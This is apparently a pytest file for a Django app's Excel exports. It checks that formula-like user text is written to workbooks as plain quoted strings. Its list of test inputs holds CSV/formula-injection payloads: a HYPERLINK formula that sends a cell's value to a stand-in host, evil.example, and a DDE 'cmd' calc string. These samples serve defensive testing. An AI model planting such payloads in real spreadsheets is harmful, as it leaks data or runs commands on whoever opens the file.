"""Formula injection: a text a user typed is written as text in every workbook, never as a formula.

A clerk's progress report ``=HYPERLINK("http://evil/?"&C3,"点击查看")`` must
reach the office's ledger as the characters typed, not as a live link that
sends the row's neighbours away; the same for daily-report text (matrix) and
unit names (bulletin). Each workbook is read back with openpyxl: the cell is a
string (``data_type 's'``), holds the text exactly and carries Excel's quote
prefix, so editing it in Excel/WPS/LibreOffice keeps it text.
"""
import datetime
import io
import zipfile
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone

from directives.exports import styles
from directives.exports.bulletin import bulletin_workbook_write
from directives.exports.ledger import LedgerOptions, ledger_workbook_write
from directives.exports.report_matrix import report_matrix_workbook_write
from directives.models import DailyReport, Task, Unit
from directives.services.workflow import task_report_progress
from tests import factories

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&C3,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "#REF!",
]


def formula_cells(workbook):
    """Every cell of every sheet that openpyxl reads as a formula (or an error)."""
    return [f"{ws.title}!{c.coordinate}" for ws in workbook for row in ws.iter_rows() for c in row
            if c.data_type in ("f", "e")]


def text_cell(workbook, text):
    """The one cell holding ``text`` exactly."""
    found = [c for ws in workbook for row in ws.iter_rows() for c in row if c.value == text]
    assert found, f"{text!r} is not in the workbook"
    return found[0]


def assert_written_as_text(content, texts, read_xlsx):
    workbook = read_xlsx(content)
    assert formula_cells(workbook) == []
    for text in texts:
        cell = text_cell(workbook, text)
        assert cell.data_type == "s" and cell.quotePrefix, (text, cell.data_type, cell.quotePrefix)
    # and the raw sheet XML has no <f> element at all
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def test_styles_mark_only_formula_like_text():
    assert all(styles.is_formula_like(t) for t in HOSTILE)
    for harmless in ("已整改3处", "—", "", "县卫健委", 12, None, 3.5, "1+1", " =1", "A=B"):
        assert not styles.is_formula_like(harmless)


def test_ledger_progress_and_title_are_text(ledger_tasks, clerk_a, unit_a, read_xlsx):
    # given a clerk's progress report and a task title that look like formulas
    task = ledger_tasks["overdue"]
    task_report_progress(task=task, unit=unit_a, author=clerk_a, text=HOSTILE[0])
    Task.objects.filter(pk=ledger_tasks["near"].pk).update(title=HOSTILE[1], remarks=HOSTILE[3])
    Task.objects.filter(pk=ledger_tasks["far"].pk).update(responsible_person=HOSTILE[2])
    # when the ledger is exported, flat and grouped by point, one sheet per lead unit
    for options in ({}, {"group_by_point": True, "sheet_per_lead_unit": True}):
        out = io.BytesIO()
        ledger_workbook_write(Task.objects.all(), out, options=LedgerOptions(
            as_of=timezone.make_aware(datetime.datetime(2026, 11, 20, 9, 30)), **options))
        # then each is a plain string cell, shown as typed
        assert_written_as_text(out.getvalue(), HOSTILE[:4], read_xlsx)


def test_ledger_plain_rows_after_a_hostile_row_keep_their_style(ledger_tasks, clerk_a, unit_a, read_xlsx):
    # given one hostile progress text among ordinary rows
    task_report_progress(task=ledger_tasks["overdue"], unit=unit_a, author=clerk_a, text=HOSTILE[0])
    out = io.BytesIO()
    ledger_workbook_write(Task.objects.order_by("deadline"), out, options=LedgerOptions())
    workbook = read_xlsx(out.getvalue())
    ws = workbook.active
    hostile = text_cell(workbook, HOSTILE[0])
    # then only that cell is quote-prefixed; its neighbours in the column keep the same font and border
    column = [ws.cell(row=r, column=hostile.column) for r in range(3, ws.max_row + 1)
              if ws.cell(row=r, column=1).value is not None]
    assert [c.quotePrefix for c in column].count(True) == 1
    plain = next(c for c in column if not c.quotePrefix)
    assert hostile.font.name == plain.font.name and hostile.border.left.style == plain.border.left.style


@pytest.fixture
def hostile_campaign(unit_a, unit_b):
    campaign = factories.CampaignFactory(
        first_day=datetime.date(2026, 11, 2), last_day=datetime.date(2026, 11, 30), units=[unit_a, unit_b]
    )
    day = datetime.date(2026, 11, 2)
    DailyReport.objects.create(campaign=campaign, unit=unit_a, date=day, text=HOSTILE[0])
    DailyReport.objects.create(campaign=campaign, unit=unit_b, date=day, text=HOSTILE[3])
    return campaign


def test_matrix_report_texts_are_text(hostile_campaign, read_xlsx):
    # given daily reports whose text looks like formulas
    out = io.BytesIO()
    report_matrix_workbook_write(hostile_campaign, datetime.date(2026, 11, 2), datetime.date(2026, 11, 2), out,
                                 now=datetime.datetime(2026, 11, 2, 20, 0, tzinfo=ZoneInfo("Asia/Shanghai")))
    # then the day summary lists them as strings
    assert_written_as_text(out.getvalue(), [HOSTILE[0], HOSTILE[3]], read_xlsx)


def test_bulletin_unit_and_campaign_names_are_text(ledger_tasks, unit_a, unit_b, read_xlsx):
    # given a unit and a campaign with formula-like names, a missed report and an overdue task
    Unit.objects.filter(pk=unit_a.pk).update(name=HOSTILE[0], short_name="")
    campaign = factories.CampaignFactory(
        name=HOSTILE[3], first_day=datetime.date(2026, 11, 16), last_day=datetime.date(2026, 11, 30),
        units=[unit_a, unit_b],
    )
    DailyReport.objects.create(campaign=campaign, unit=unit_b, date=datetime.date(2026, 11, 16), is_late=True)
    out = io.BytesIO()
    bulletin_workbook_write(datetime.date(2026, 11, 1), datetime.date(2026, 11, 30), out,
                            now=datetime.datetime(2026, 11, 20, 18, 0, tzinfo=ZoneInfo("Asia/Shanghai")))
    # then the ranking, the overdue list and the gaps hold them as strings
    assert_written_as_text(out.getvalue(), [HOSTILE[0], HOSTILE[3]], read_xlsx)
